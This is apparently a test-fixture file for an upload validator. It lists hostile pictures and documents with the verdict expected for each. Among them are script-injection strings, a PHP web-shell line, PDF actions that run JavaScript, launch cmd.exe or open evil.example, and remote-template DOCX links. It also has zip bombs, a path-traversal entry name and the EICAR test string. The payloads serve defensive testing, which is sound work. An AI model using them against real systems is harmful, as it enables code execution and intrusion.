import { deflateSync } from "node:zlib";
import type { UploadPurpose } from "@boab/contracts/uploads/uploads";
import {
  addJpegComment,
  createImage,
  eicar,
  hiddenWord,
  makeDocm,
  makeDocx,
  makeJpeg,
  makeOle,
  makeOverlappingDocx,
  makePdf,
  makePhotoWithPlace,
  makePng,
  makePngChunk,
  makeTightPng,
  makeWebp,
  zip,
} from "./make-files.ts";

export interface HostileFile {
  what: string;
  make: () => Buffer | Promise<Buffer>;
  /** The type its sender claims. */
  type: string;
  purpose: UploadPurpose;
  /** `ready`, or why it is refused. */
  verdict: string;
}

const docxType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const types = {
  jpeg: "image/jpeg",
  png: "image/png",
  webp: "image/webp",
  pdf: "application/pdf",
  doc: "application/msword",
  docx: docxType,
};

type Row = [string, HostileFile["make"], keyof typeof types, string];

const html = "<!doctype html><script>alert(document.domain)</script>";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`;
const php = "<?php system($_GET['c']); ?>";
const gif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==", "base64");
const bmp = Buffer.concat([Buffer.from("BM"), Buffer.alloc(200)]);
const makeTiff = () => createImage(20, 20).tiff().toBuffer();
const avif = Buffer.from("0000001c6674797061766966000000006d696631617669666d696166", "hex");
const heic = Buffer.from("0000001c6674797068656963000000006d6966316865696368657663", "hex");
const exe = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)]);
const appendBytes = async (start: Promise<Buffer> | Buffer, end: string | Buffer) =>
  Buffer.concat([await start, Buffer.from(end)]);
const takeStart = async (file: Promise<Buffer>, fraction: number) => {
  const bytes = await file;
  return bytes.subarray(0, Math.floor(bytes.length * fraction));
};
const makeBlankBytes = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20);
const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>${hiddenWord}</exif:GPSLatitude></x:xmpmeta>`;
const textChunk = makePngChunk("tEXt", Buffer.from(`Comment\0${hiddenWord}`));

const pictures: Row[] = [
  ["a JPEG", () => makeJpeg(), "jpeg", "ready"],
  ["a PNG", () => makePng(), "png", "ready"],
  ["a WebP", () => makeWebp(), "webp", "ready"],
  ["a grey picture", () => createImage(300, 200).greyscale().png().toBuffer(), "png", "ready"],
  ["a picture of one pixel", () => makePng(1, 1), "png", "ready"],
  ["a JPEG with its place", () => makePhotoWithPlace("jpeg"), "jpeg", "ready"],
  ["a WebP with its place", () => makePhotoWithPlace("webp"), "webp", "ready"],
  ["a PNG with its place", () => makePhotoWithPlace("png"), "png", "ready"],
  ["a JPEG lying on its side", () => makePhotoWithPlace("jpeg", 8), "jpeg", "ready"],
  [
    "a JPEG with a word in a comment",
    async () => addJpegComment(await makeJpeg(), hiddenWord),
    "jpeg",
    "ready",
  ],
  [
    "a JPEG with a script in a comment",
    async () => addJpegComment(await makeJpeg(), html),
    "jpeg",
    "ready",
  ],
  [
    "a JPEG with XMP in a comment",
    async () => addJpegComment(await makeJpeg(), xmp),
    "jpeg",
    "ready",
  ],
  [
    "a PNG with a word in a text",
    async () => {
      const bytes = await makePng();
      return Buffer.concat([bytes.subarray(0, 33), textChunk, bytes.subarray(33)]);
    },
    "png",
    "ready",
  ],
  ["a JPEG and a page", () => appendBytes(makeJpeg(), html), "jpeg", "ready"],
  [
    "a JPEG and a ZIP",
    () => appendBytes(makeJpeg(), zip([{ name: "a.exe", text: exe }])),
    "jpeg",
    "ready",
  ],
  ["a PNG and PHP", () => appendBytes(makePng(), php), "png", "ready"],
  ["a WebP and a page", () => appendBytes(makeWebp(), html), "webp", "ready"],
  ["a PNG and the test virus", () => appendBytes(makePng(), eicar), "png", "virus"],
  [
    "49 megapixels, a JPEG on its side",
    () => makePhotoWithPlace("jpeg", 6, [7000, 7000]),
    "jpeg",
    "ready",
  ],
  ["49 megapixels, a PNG", () => makePng(7000, 7000), "png", "ready"],
  ["49 megapixels, a WebP", () => makeWebp(7000, 7000), "webp", "ready"],
  ["a picture 16 pixels high", () => makePng(30_000, 16), "png", "ready"],
  ["81 megapixels", () => makeTightPng(9_000, 9_000), "png", "tooManyPixels"],
  ["196 megapixels", () => makeTightPng(14_000, 14_000), "png", "tooManyPixels"],
  ["289 megapixels", () => makeTightPng(17_000, 17_000), "png", "tooManyPixels"],
  [
    "196 megapixels announced, one row sent",
    () => makeTightPng(14_000, 14_000, 1),
    "png",
    "tooManyPixels",
  ],
  ["a PNG with half its rows", () => makeTightPng(800, 800, 400), "png", "broken"],
  ["an SVG", () => Buffer.from(svg), "png", "wrongType"],
  ["an SVG as XML", () => Buffer.from(`<?xml version="1.0"?>${svg}`), "jpeg", "wrongType"],
  ["a page", () => Buffer.from(html), "jpeg", "wrongType"],
  ["PHP", () => Buffer.from(php), "jpeg", "wrongType"],
  ["a GIF", () => gif, "png", "wrongType"],
  ["a GIF with a script", () => appendBytes(gif, "=1;alert(1)"), "jpeg", "wrongType"],
  ["a BMP", () => bmp, "png", "wrongType"],
  ["a TIFF", makeTiff, "jpeg", "wrongType"],
  ["an AVIF", () => avif, "webp", "wrongType"],
  ["a HEIC", () => heic, "jpeg", "wrongType"],
  ["a program", () => exe, "png", "wrongType"],
  ["a PDF", () => makePdf(), "jpeg", "wrongType"],
  ["a PNG called a JPEG", () => makePng(), "jpeg", "wrongType"],
  ["a JPEG called a WebP", () => makeJpeg(), "webp", "wrongType"],
  ["nothing", () => Buffer.alloc(0), "jpeg", "missing"],
  ["one byte", () => Buffer.from([0xff]), "jpeg", "wrongType"],
  ["zeros", () => Buffer.alloc(5_000), "jpeg", "wrongType"],
  ["the start of a JPEG", async () => (await makeJpeg()).subarray(0, 20), "jpeg", "broken"],
  ["half a JPEG", () => takeStart(makeJpeg(2_000, 2_000), 0.5), "jpeg", "broken"],
  ["half a PNG", () => takeStart(makePng(2_000, 2_000), 0.5), "png", "broken"],
  ["half a WebP", () => takeStart(makePhotoWithPlace("webp"), 0.5), "webp", "broken"],
  [
    "a JPEG's first bytes and a page",
    () => appendBytes(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html),
    "jpeg",
    "broken",
  ],
  [
    "a JPEG with too many bytes behind it",
    () => appendBytes(makeJpeg(), makeBlankBytes(26)),
    "jpeg",
    "tooLarge",
  ],
];

const makeRelationships = (target: string, type = "http://x/attachedTemplate") => ({
  name: "word/_rels/settings.xml.rels",
  text: `<Relationships><Relationship Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
});

const makeLinksPart = (text: string) => ({ name: "word/_rels/document.xml.rels", text });
const linked = (type: string) =>
  makeLinksPart(
    `<Relationship Id="r1" Type="${type}" Target="http://evil.example/a" TargetMode="External"/>`,
  );

/** A PDF with one object in an object stream, as every newer program writes them. */
function makePackedPdf(object: string, more = "", filter = "/Filter/FlateDecode"): Buffer {
  const body = deflateSync(Buffer.from(`3 0 ${object}`));
  const stream = Buffer.concat([
    Buffer.from(`5 0 obj<</Type/ObjStm/N 1/First 4${filter}/Length ${body.length}>>stream\n`),
    body,
    Buffer.from("\nendstream endobj\n"),
  ]);
  return Buffer.concat([Buffer.from("%PDF-1.7\n"), stream, makePdf(more).subarray(9)]);
}

const documents: Row[] = [
  ["a PDF", () => makePdf(), "pdf", "ready"],
  ["a DOC", () => makeOle("WordDocument"), "doc", "ready"],
  ["a DOCX", () => makeDocx(), "docx", "ready"],
  [
    "a DOCX with pictures",
    () => makeDocx([{ name: "word/media/image1.png", text: makeTightPng(99, 99) }]),
    "docx",
    "ready",
  ],
  [
    "a PDF and a long page behind it",
    () => appendBytes(makePdf(), html.repeat(40)),
    "pdf",
    "broken",
  ],
  ["half a PDF", () => makePdf().subarray(0, 30), "pdf", "broken"],
  ["a page called a PDF", () => Buffer.from(html), "pdf", "wrongType"],
  ["a page before a PDF", () => appendBytes(Buffer.from(html), makePdf()), "pdf", "wrongType"],
  ["a DOCX called a PDF", () => makeDocx(), "pdf", "wrongType"],
  ["a picture called a PDF", () => makePng(), "pdf", "wrongType"],
  ["a DOC with macros", () => makeOle("WordDocument", "Macros", "_VBA_PROJECT"), "doc", "macros"],
  ["a spreadsheet called a DOC", () => makeOle("Workbook"), "doc", "wrongType"],
  ["a DOCM", makeDocm, "docx", "macros"],
  [
    "a DOCM that says it is a DOCX",
    () => makeDocx([{ name: "word/vbaProject.bin", text: "x" }]),
    "docx",
    "macros",
  ],
  [
    "a DOCX with hidden macro data",
    () => makeDocx([{ name: "word/VbaData.xml", text: "x" }]),
    "docx",
    "macros",
  ],
  [
    "a DOCX with a template elsewhere",
    () => makeDocx([makeRelationships("http://evil.example/t.dotm")]),
    "docx",
    "macros",
  ],
  ...["oleObject", "frame", "image", "subDocument", "afChunk"].map(
    (kind): Row => [
      `a DOCX with an external ${kind}`,
      () => makeDocx([linked(`http://x/${kind}`)]),
      "docx",
      "activeContent",
    ],
  ),
  ["a DOCX with hyperlinks", () => makeDocx([linked("http://x/hyperlink")]), "docx", "ready"],
  [
    "a DOCX whose external picture is written with other quotes and spaces",
    () =>
      makeDocx([
        makeLinksPart(
          "<Relationship Type='http://x/image' TargetMode = 'External' Target='//h/a'/>",
        ),
      ]),
    "docx",
    "activeContent",
  ],
  [
    "a DOCX whose list of links declares an entity",
    () =>
      makeDocx([
        makeLinksPart('<!DOCTYPE a [<!ENTITY e "External">]><Relationship TargetMode="&e;"/>'),
      ]),
    "docx",
    "activeContent",
  ],
  [
    "a DOCX with an embedded file",
    () => makeDocx([{ name: "word/embeddings/oleObject1.bin", text: "x" }]),
    "docx",
    "activeContent",
  ],
  [
    "a DOCX with a control",
    () => makeDocx([{ name: "word/activeX/activeX1.xml", text: "x" }]),
    "docx",
    "activeContent",
  ],
  [
    "a DOC with a package",
    () => makeOle("WordDocument", "ObjectPool", "\u0001Ole10Native"),
    "doc",
    "activeContent",
  ],
  ["a DOC with an object", () => makeOle("WordDocument", "\u0003ObjInfo"), "doc", "activeContent"],
  ...[
    "<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>",
    "<</OpenAction<</S/J#61vaScr#69pt>>>>",
    "<</AA<</O<</JS 9 0 R>>>>>>",
    "<</S/Launch/F(cmd.exe)>>",
    "<</Names<</EmbeddedFiles 8 0 R>>>>",
    "<</Type/EmbeddedFile/Length 3>>",
    "<</OpenAction<</S/URI/URI(http://evil.example)>>>>",
    "<</OpenAction<</S/U#52I/U#52#49(http://evil.example)>>>>",
    "<</OpenAction<</X(>>)/S/URI/URI(http://evil.example)>>>>",
    "<</OpenAction 8 0 R>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
    "<</AA<</O 8 0 R>>>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
    "<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next 8 0 R>>>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
    "<</OpenAction 7 0 R>>endobj 7 0 obj<</S/GoTo/Next 8 0 R>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
    "<</S/SubmitForm>>",
  ].map(
    (object): Row => [
      `a PDF with ${object}`,
      () => makePdf(`7 0 obj${object}endobj\n`),
      "pdf",
      "activeContent",
    ],
  ),
  [
    "a PDF with a script in a packed object",
    () => makePackedPdf("<</S/JavaScript/JS(x)>>"),
    "pdf",
    "activeContent",
  ],
  ["a PDF with a packed object", () => makePackedPdf("<</Type/Font>>"), "pdf", "ready"],
  [
    "a PDF that opens an address from a packed object",
    () =>
      makePackedPdf("<</S/URI/URI(http://evil.example)>>", "7 0 obj<</OpenAction 3 0 R>>endobj\n"),
    "pdf",
    "activeContent",
  ],
  [
    "a PDF with a packed object in an unusual encoding",
    () => makePackedPdf("<</Type/Font>>", "", "/Filter[/ASCIIHexDecode/FlateDecode]"),
    "pdf",
    "broken",
  ],
  ["a PDF with a bomb as its objects", () => makePackedPdf(" ".repeat(30e6)), "pdf", "broken"],
  [
    "a locked PDF with packed objects",
    () => makePackedPdf("<</Type/Font>>", "trailer<</Encrypt 9 0 R>>\n"),
    "pdf",
    "locked",
  ],
  [
    "a PDF with a script behind an open bracket",
    () => makePdf("( 7 0 obj<</S/JavaScript>>endobj\n"),
    "pdf",
    "activeContent",
  ],
  [
    "a PDF with a script between a false stream's ends",
    () => makePdf("%>>stream\n7 0 obj<</S/Launch>>endobj\nendstream\n"),
    "pdf",
    "activeContent",
  ],
  [
    "a PDF with a link, a place to open at, and a title about /JS",
    () =>
      makePdf(
        "7 0 obj<</OpenAction[3 0 R/Fit]/Title(React/JS developer)/A<</S/URI/URI(http://x)>>>>endobj\n",
      ),
    "pdf",
    "ready",
  ],
  ["a ZIP", () => zip([{ name: "a.txt", text: "a" }]), "docx", "wrongType"],
  [
    "a ZIP bomb",
    () => makeDocx([{ name: "word/bomb.xml", text: makeBlankBytes(50) }]),
    "docx",
    "packedTooTightly",
  ],
  [
    "a ZIP bomb of 70 MB",
    () => makeDocx([{ name: "word/bomb.xml", text: makeBlankBytes(70) }]),
    "docx",
    "packedTooTightly",
  ],
  [
    "a ZIP bomb that lies about its size",
    () => makeDocx([{ name: "word/bomb.xml", text: makeBlankBytes(40), claimedSize: 100 }]),
    "docx",
    "packedTooTightly",
  ],
  [
    "a DOCX of thousands of parts",
    () =>
      makeDocx(Array.from({ length: 2_500 }, (_, index) => ({ name: `word/${index}`, text: "" }))),
    "docx",
    "packedTooTightly",
  ],
  [
    "a DOCX with a template elsewhere, written in character references",
    () =>
      makeDocx([makeRelationships("http://evil.example/>", "http://x/&#97;ttached&#x54;emplate")]),
    "docx",
    "macros",
  ],
  ["a DOCX with parts that share their bytes", makeOverlappingDocx, "docx", "broken"],
  [
    "a DOCX with a name that leads out of it",
    () => makeDocx([{ name: "../../etc/passwd", text: "x" }]),
    "docx",
    "broken",
  ],
  ["a locked DOCX", () => makeDocx([], undefined, 1), "docx", "broken"],
  ["half a DOCX", () => makeDocx().subarray(0, 250), "docx", "broken"],
  [
    "a DOCX with the test virus inside",
    () => makeDocx([{ name: "word/a.bin", text: eicar }]),
    "docx",
    "virus",
  ],
  ["the test virus", () => Buffer.from(eicar), "pdf", "virus"],
  ["a PDF with the test virus", () => makePdf(eicar), "pdf", "virus"],
  ["too large a PDF", () => appendBytes(makePdf(), makeBlankBytes(6)), "pdf", "tooLarge"],
];

const toFiles = (rows: Row[], purpose: UploadPurpose): HostileFile[] =>
  rows.map(([what, make, type, verdict]) => ({ what, make, type: types[type], purpose, verdict }));

/** What people upload by mistake or on purpose, and what we expect. */
export const hostileFiles: HostileFile[] = [
  ...toFiles(pictures, "item-photo"),
  ...toFiles(documents, "job-resume"),
];
